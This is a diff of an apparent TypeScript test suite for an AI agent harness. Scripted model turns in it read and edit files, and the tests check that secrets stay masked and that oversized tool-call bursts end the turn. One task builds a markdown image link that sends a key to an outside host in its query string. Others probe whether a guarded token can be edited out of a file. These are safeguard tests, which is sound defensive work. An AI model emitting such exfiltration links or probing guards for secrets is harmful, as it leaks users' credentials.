@@ -90,7 +90,8 @@ const link: Task = {
     return `![x](${elsewhere}/?k=${key}) [link](${elsewhere}/?k=${key})`;
   },
   after: {},
-  refused: [/mark in the place of a secret/, /mark in the place of a secret/, /mark in the place of a secret/],
+  refused: [/mark in the place of a secret/, /mark in the place of a secret/],
+  told: [/^Review these first: .*key\.ts$/],
 };
 
 const again: Task = {
@@ -258,7 +259,7 @@ const more: readonly Task[] = [
       return () => undefined;
     },
     *model() {
-      yield [read('alias.ts')];
+      yield [read('src/pay.ts')];
       yield [edit('alias.ts', '  return 1;', '  return 2;'), edit('./src/pay.ts', '  return 2;', '  return 3;')];
       return 'Please accept all.';
     },
@@ -319,7 +320,7 @@ const more: readonly Task[] = [
     *model() {
       yield [read('src/pay.ts')];
       yield 'Please go on.';
-      const results = yield [edit('src/pay.ts', `${excluded}`, 'x'), read('src/pay.ts'), write('src/pay.ts', 'x\n')];
+      const results = yield [edit('src/pay.ts', 'TOKEN', 'x'), read('src/pay.ts'), write('src/pay.ts', 'x\n')];
       if (results.some((result) => result.includes('TOKEN'))) throw new Error('It got the file.');
       return 'I could not.';
     },
@@ -356,7 +357,7 @@ const more: readonly Task[] = [
     refused: [guarded, guarded, guarded, guarded],
   },
   {
-    name: '2,000 calls in one answer: the turn ends after 60, and each is recorded',
+    name: '2,000 calls in one answer are not taken, and the turn ends',
     files: { 'src/pay.ts': pay },
     *model() {
       yield [read('src/pay.ts')];
@@ -371,7 +372,6 @@ const more: readonly Task[] = [
     },
     after: {},
     isEnded: true,
-    refused: [/^Refused: this changes nothing/],
   },
   {
     name: 'a folder stands where a new file was proposed',
